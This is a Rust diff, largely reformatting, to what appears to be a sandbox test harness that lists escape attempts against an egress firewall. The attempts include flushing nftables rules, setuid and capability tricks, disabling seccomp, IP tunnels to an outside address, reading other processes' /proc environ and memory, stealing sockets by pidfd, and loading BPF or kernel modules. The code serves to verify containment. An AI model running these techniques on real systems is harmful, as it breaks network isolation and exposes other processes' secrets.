@@ -27,7 +27,9 @@ pub fn attempts() -> Vec<Attempt> {
     let hold = |name, body| privileged(name, body).evidence(Evidence::Hold);
     let rules = |name, body| Attempt::new("privileges", name, body);
     vec![
-        privileged("the table deleted", |c| nft(c, "delete table inet egress_init")),
+        privileged("the table deleted", |c| {
+            nft(c, "delete table inet egress_init")
+        }),
         privileged("every table flushed", |c| nft(c, "flush ruleset")),
         privileged("the policy of the chain turned", |c| {
             nft(
@@ -36,17 +38,24 @@ pub fn attempts() -> Vec<Attempt> {
                  add chain inet egress_init output { policy accept; }",
             )
         }),
-        privileged("a rule put first", |c| nft(c, "insert rule inet egress_init output accept")),
+        privileged("a rule put first", |c| {
+            nft(c, "insert rule inet egress_init output accept")
+        }),
         privileged("the table put to sleep", |c| {
             nft(c, "add table inet egress_init { flags dormant; }")
         }),
         privileged("an element added to the sets", |c| {
             let to = crate::support::world::ELSEWHERE[0];
             let port = c.port;
-            nft(c, &format!("add element inet egress_init allow4 {{ {to} . udp . {port} }}"))
+            nft(
+                c,
+                &format!("add element inet egress_init allow4 {{ {to} . udp . {port} }}"),
+            )
         }),
         privileged("a setuid program", |c| become_program(SETUID, c)),
-        privileged("a program with file capabilities", |c| become_program(FILE_CAPABILITIES, c)),
+        privileged("a program with file capabilities", |c| {
+            become_program(FILE_CAPABILITIES, c)
+        }),
         privileged("setuid program from a user namespace", |c| {
             nix::sched::unshare(nix::sched::CloneFlags::CLONE_NEWUSER)?;
             become_program(SETUID, c)
@@ -79,14 +88,23 @@ pub fn attempts() -> Vec<Attempt> {
             let _ = calls::numbers(libc::SYS_prctl, [38, 0, 0, 0, 0]);
             become_program(SETUID, c)
         }),
-        rules("the socket filter replaced by one that lets all pass", |c| {
-            // PR_SET_SECCOMP to mode 0, as far as that is an answer.
-            let _ = calls::numbers(libc::SYS_prctl, [22, 0, 0, 0, 0]);
-            packet(c)
+        rules(
+            "the socket filter replaced by one that lets all pass",
+            |c| {
+                // PR_SET_SECCOMP to mode 0, as far as that is an answer.
+                let _ = calls::numbers(libc::SYS_prctl, [22, 0, 0, 0, 0]);
+                packet(c)
+            },
+        ),
+        rules("a tunnel: IP in IP", |c| {
+            tunnel(c, "ipip remote 203.0.113.66 local 10.77.0.2")
         }),
-        rules("a tunnel: IP in IP", |c| tunnel(c, "ipip remote 203.0.113.66 local 10.77.0.2")),
-        rules("a tunnel: GRE", |c| tunnel(c, "gre remote 203.0.113.66 local 10.77.0.2")),
-        rules("a tunnel: sit", |c| tunnel(c, "sit remote 203.0.113.66 local 10.77.0.2")),
+        rules("a tunnel: GRE", |c| {
+            tunnel(c, "gre remote 203.0.113.66 local 10.77.0.2")
+        }),
+        rules("a tunnel: sit", |c| {
+            tunnel(c, "sit remote 203.0.113.66 local 10.77.0.2")
+        }),
         rules("a tunnel: ip6tnl", |c| {
             tunnel(c, "ip6tnl remote 2001:db8::1166 local fd77::2")
         }),
@@ -96,14 +114,25 @@ pub fn attempts() -> Vec<Attempt> {
         rules("a tunnel: VXLAN to an allowed host", |c| {
             tunnel(c, "vxlan id 7 remote 198.51.100.10 dstport 4789 dev eth0")
         }),
-        rules("a tunnel: GENEVE", |c| tunnel(c, "geneve id 7 remote 203.0.113.66")),
-        rules("a tunnel: WireGuard and others by rtnetlink", |c| tunnel(c, "wireguard")),
-        hold("tracing a privileged neighbour", |_| calls::trace(bystander()?)),
-        hold("reading a privileged neighbour's memory", |_| memory(bystander()?)),
-        hold("a privileged neighbour's environment and root folder", |_| {
-            fs::read(format!("/proc/{}/environ", bystander()?))?;
-            fs::read_dir(format!("/proc/{}/root", bystander()?)).map(drop)
+        rules("a tunnel: GENEVE", |c| {
+            tunnel(c, "geneve id 7 remote 203.0.113.66")
         }),
+        rules("a tunnel: WireGuard and others by rtnetlink", |c| {
+            tunnel(c, "wireguard")
+        }),
+        hold("tracing a privileged neighbour", |_| {
+            calls::trace(bystander()?)
+        }),
+        hold("reading a privileged neighbour's memory", |_| {
+            memory(bystander()?)
+        }),
+        hold(
+            "a privileged neighbour's environment and root folder",
+            |_| {
+                fs::read(format!("/proc/{}/environ", bystander()?))?;
+                fs::read_dir(format!("/proc/{}/root", bystander()?)).map(drop)
+            },
+        ),
         privileged("a privileged neighbour's packet socket, by pidfd", |c| {
             steal(bystander()?, c)
         }),
@@ -113,8 +142,12 @@ pub fn attempts() -> Vec<Attempt> {
         })
         .of_user(),
         hold("tracing process 1", |_| calls::trace(privileged_init()?)),
-        hold("reading the memory of process 1", |_| memory(privileged_init()?)),
-        privileged("the sockets of process 1, by pidfd", |c| steal(privileged_init()?, c)),
+        hold("reading the memory of process 1", |_| {
+            memory(privileged_init()?)
+        }),
+        privileged("the sockets of process 1, by pidfd", |c| {
+            steal(privileged_init()?, c)
+        }),
         rules("every signal to process 1", signals_to_init),
         hold("a mount over the sentinel's folder", |_| {
             mount(
@@ -136,23 +169,34 @@ pub fn attempts() -> Vec<Attempt> {
             let (soft, hard) = getrlimit(Resource::RLIMIT_MSGQUEUE)?;
             Ok(setrlimit(Resource::RLIMIT_MSGQUEUE, soft, hard + 1)?)
         }),
-        hold("a BPF program for traffic control", |_| calls::load_bpf(3).map(drop)),
-        hold("a BPF program for a cgroup's packets", |_| calls::load_bpf(8).map(drop)),
+        hold("a BPF program for traffic control", |_| {
+            calls::load_bpf(3).map(drop)
+        }),
+        hold("a BPF program for a cgroup's packets", |_| {
+            calls::load_bpf(8).map(drop)
+        }),
         hold("a BPF program for XDP", |_| calls::load_bpf(6).map(drop)),
-        hold("the performance counters of all processors", |_| calls::count_everything()),
+        hold("the performance counters of all processors", |_| {
+            calls::count_everything()
+        }),
         hold("a kernel module", |_| module()),
         hold("the kernel's memory", |_| raw_devices()),
         rules("a key that the kernel resolves by DNS", |c| {
             let name = format!("{}.tunnel.example.net", c.token);
             calls::request_key(c"dns_resolver", &name)
         }),
-        rules("the network's variables loosened, where they can be written", loosened),
+        rules(
+            "the network's variables loosened, where they can be written",
+            loosened,
+        ),
         privileged("the link mirrored by traffic control", |c| {
             run("tc", &["qdisc", "add", "dev", "lo", "clsact"])?;
             let filter = "filter add dev lo egress matchall action mirred egress mirror dev eth0";
             run("tc", &filter.split(' ').collect::<Vec<_>>())?;
             let socket = std::net::UdpSocket::bind("127.0.0.1:0")?;
-            socket.send_to(&c.payload(), ("127.0.0.1", c.port)).map(drop)
+            socket
+                .send_to(&c.payload(), ("127.0.0.1", c.port))
+                .map(drop)
         }),
     ]
 }
@@ -197,14 +241,27 @@ fn tunnel(c: &Context, kind: &str) -> io::Result<()> {
     run("ip", &["link", "set", "escape1", "up"])?;
     let _ = run(
         "ip",
-        &["neigh", "add", "10.99.0.2", "lladdr", "02:00:00:00:00:09", "dev", "escape1"],
+        &[
+            "neigh",
+            "add",
+            "10.99.0.2",
+            "lladdr",
+            "02:00:00:00:00:09",
+            "dev",
+            "escape1",
+        ],
     );
     let socket = std::net::UdpSocket::bind("0.0.0.0:0")?;
-    let sent = socket.send_to(&c.payload(), ("10.99.0.2", c.port)).map(drop);
+    let sent = socket
+        .send_to(&c.payload(), ("10.99.0.2", c.port))
+        .map(drop);
     std::thread::sleep(std::time::Duration::from_millis(20));
     let _ = run("ip", &["link", "del", "escape1"]);
     sent
 }
+
+/// What an attempt on a supervisor says where there is none.
+pub const NO_SUPERVISOR: &str = "process 1 has no privilege either";
 
 /// Process 1, where it has privileges that the command does not: under `--supervise`.
 fn privileged_init() -> io::Result<i32> {
@@ -214,7 +271,7 @@ fn privileged_init() -> io::Result<i32> {
         .find_map(|line| line.strip_prefix("CapEff:"))
         .map_or("", str::trim);
     if u64::from_str_radix(effective, 16).unwrap_or(0) == 0 {
-        return Err(io::Error::other("process 1 has no privilege either"));
+        return Err(io::Error::other(NO_SUPERVISOR));
     }
     Ok(1)
 }
@@ -233,7 +290,10 @@ fn memory(pid: i32) -> io::Result<()> {
 
 /// Every descriptor of another process that takes a frame.
 fn steal(pid: i32, c: &Context) -> io::Result<()> {
-    let pidfd = calls::owned(calls::numbers(libc::SYS_pidfd_open, [pid.into(), 0, 0, 0, 0])?);
+    let pidfd = calls::owned(calls::numbers(
+        libc::SYS_pidfd_open,
+        [pid.into(), 0, 0, 0, 0],
+    )?);
     let number = std::os::fd::AsRawFd::as_raw_fd(&pidfd);
     let mut last = Err(io::Error::other("no descriptor of it takes a frame"));
     for fd in 0..40 {
